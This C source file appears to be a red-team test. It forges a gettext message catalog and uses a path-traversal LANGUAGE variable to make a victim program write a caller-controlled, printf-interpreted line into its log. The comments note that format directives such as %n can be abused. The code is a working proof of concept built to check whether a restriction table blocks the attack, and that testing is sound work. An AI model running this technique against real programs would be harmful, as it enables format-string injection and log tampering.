/* exec_catalog.c: a caller's message catalog, for a program with a table of its own (red team 35).
 *
 * gettext (glibc intl/dcigettext.c) reads the catalogs of a program's messages from
 * DIR/ELEMENT/LC_MESSAGES/DOMAIN.mo for each ELEMENT of LANGUAGE (a list split at ':'), DIR
 * the domain's directory (bindtextdomain's, /usr/share/locale by default).  An element that
 * holds a '/' is a path: "../../../../home/u/work/cat" reaches a catalog of the caller's.  Its
 * translations replace the program's messages -- and they are printf formats (%s, %p, %n of
 * what the registers and the stack hold).  glibc skips such an element only in secure mode
 * (IS_PATH_WITH_DIR under ENABLE_SECURE: a set-user-ID exec); no table switch sets it.
 *
 *   exec_catalog attack VICTIM LOG DIR slash|plain
 *       writes DIR/cat/LC_MESSAGES/stamp.mo (its "stamp: checked %s\n" translated to a line of
 *       the caller's), forks, and the child execs VICTIM (this program, copied where a table
 *       names it) with LC_ALL=C.UTF-8 and LANGUAGE naming that catalog by a relative path
 *       (slash) -- or LANGUAGE=en, a catalog of the system's (plain); ESCAPED when LOG then
 *       holds the caller's line.
 *   exec_catalog victim LOG TEXT
 *       the program with a table of its own: appends its (translated) message to LOG.
 */
#include "attack.h"

#include <libintl.h>
#include <locale.h>

#define MSGID "stamp: checked %s\n"
#define MSGSTR "\n" PAYLOAD_MAGIC " (the caller's line, in the program's log) %s\n"
#define HEADER "Content-Type: text/plain; charset=UTF-8\n"

static int victim(const char *log, const char *text) {
    setlocale(LC_ALL, "");
    bindtextdomain("stamp", "/usr/share/locale");
    textdomain("stamp");
    int fd = open(log, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (fd < 0) {
        perror("open");
        return 1;
    }
    dprintf(fd, gettext(MSGID), text);
    close(fd);
    return 0;
}

static void put32(unsigned char *at, uint32_t v) { memcpy(at, &v, 4); }

/* A .mo file of two messages (the header "" and MSGID), sorted, without a hash table. */
static void write_catalog(const char *dir) {
    char path[4096];
    const char *parts[] = {"/cat", "/cat/LC_MESSAGES"};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%s%s", dir, parts[i]);
        if (mkdir(path, 0755) < 0 && errno != EEXIST) blocked("mkdir %s: %s", path, ename(errno));
    }
    const char *ids[] = {"", MSGID}, *strs[] = {HEADER, MSGSTR};
    unsigned char mo[1024] = {0};
    uint32_t n = 2, orig = 28, trans = orig + 8 * n, at = trans + 8 * n;
    put32(mo, 0x950412de);
    put32(mo + 8, n);
    put32(mo + 12, orig);
    put32(mo + 16, trans);
    for (uint32_t i = 0; i < n; i++) {
        const char *s[2] = {ids[i], strs[i]};
        for (int k = 0; k < 2; k++) {
            uint32_t len = (uint32_t)strlen(s[k]);
            put32(mo + (k ? trans : orig) + 8 * i, len);
            put32(mo + (k ? trans : orig) + 8 * i + 4, at);
            memcpy(mo + at, s[k], len + 1);
            at += len + 1;
        }
    }
    snprintf(path, sizeof path, "%s/cat/LC_MESSAGES/stamp.mo", dir);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, mo, at) != (ssize_t)at) blocked("catalog %s: %s", path, ename(errno));
    close(fd);
}

extern char **environ;

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "victim") == 0) return victim(argv[2], argv[3]);
    if (argc != 6 || strcmp(argv[1], "attack") != 0) {
        blocked("usage: exec_catalog attack VICTIM LOG DIR slash|plain");
    }
    const char *prog = argv[2], *log = argv[3], *dir = argv[4], *how = argv[5];
    write_catalog(dir);
    static char language[4200];
    if (strcmp(how, "plain") == 0) {
        snprintf(language, sizeof language, "LANGUAGE=en");
    } else {  /* from /usr/share/locale up to / and down to the caller's catalog */
        snprintf(language, sizeof language, "LANGUAGE=../../../../../..%s/cat", dir);
    }
    static char *envp[512];
    size_t k = 0;
    envp[k++] = language;
    envp[k++] = "LC_ALL=C.UTF-8";
    for (char **e = environ; *e && k < 510; e++) {
        if (strncmp(*e, "LANGUAGE=", 9) && strncmp(*e, "LC_ALL=", 7)) envp[k++] = *e;
    }
    envp[k] = NULL;
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) blocked("pipe: %s", ename(errno));
    pid_t pid = fork();
    if (pid < 0) blocked("fork: %s", ename(errno));
    if (pid == 0) {
        char *args[] = {(char *)prog, "victim", (char *)log, "harmless", NULL};
        execve(prog, args, envp);
        int e = errno;
        (void)!write(pipefd[1], &e, sizeof e);
        _exit(126);
    }
    close(pipefd[1]);
    int e = 0;
    if (read(pipefd[0], &e, sizeof e) != (ssize_t)sizeof e) e = 0;
    int status;
    waitpid(pid, &status, 0);
    char buf[4096] = {0};
    int fd = open(log, O_RDONLY);
    if (fd < 0) blocked("exec: %s; log unreadable: %s", e ? ename(e) : "ran", ename(errno));
    ssize_t got = read(fd, buf, sizeof buf - 1);
    close(fd);
    note("log: %s", buf);
    if (got > 0 && strstr(buf, PAYLOAD_MAGIC)) {
        escaped("the program's table wrote the caller's catalog line into %s (%s)", log, how);
    }
    blocked("exec: %s; the log holds no line of the caller's", e ? ename(e) : "ran");
}
